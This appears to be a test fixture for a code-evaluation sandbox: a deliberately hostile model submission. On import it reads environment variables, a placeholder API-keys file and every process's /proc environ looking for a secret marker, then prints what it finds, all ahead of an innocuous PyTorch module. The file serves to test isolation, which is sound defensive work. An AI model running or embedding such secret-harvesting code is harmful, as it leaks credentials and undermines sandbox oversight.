# ruff: noqa  (hostile or templated submission source: placeholders like __PORT__ are filled by the test)
# Escape: look for the service's secrets: its environment (inherited), its API keys file, and the
# environment of every process visible in /proc. Whatever is found is printed (the captured output comes
# back in the response) -- the test asserts the secret never appears in the answer.
import os
from pathlib import Path

import torch
import torch.nn as nn

found = []
for k, v in os.environ.items():
    if "__MARKER__" in v:
        found.append(f"env {k}={v}")
try:
    found.append("keys file: " + Path("__KEYS_FILE__").read_text())
except OSError as exc:
    found.append(f"keys file blocked: {exc}")
for proc in Path("/proc").iterdir():
    if proc.name.isdigit():
        try:
            data = (proc / "environ").read_bytes()
        except OSError:
            continue
        if b"__MARKER__" in data:
            i = data.index(b"__MARKER__")
            found.append(f"/proc/{proc.name}/environ: {data[max(0, i - 40) : i + 40]!r}")
print("\n".join(found))


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(n, n))

    def forward(self, x):
        return x @ self.weight
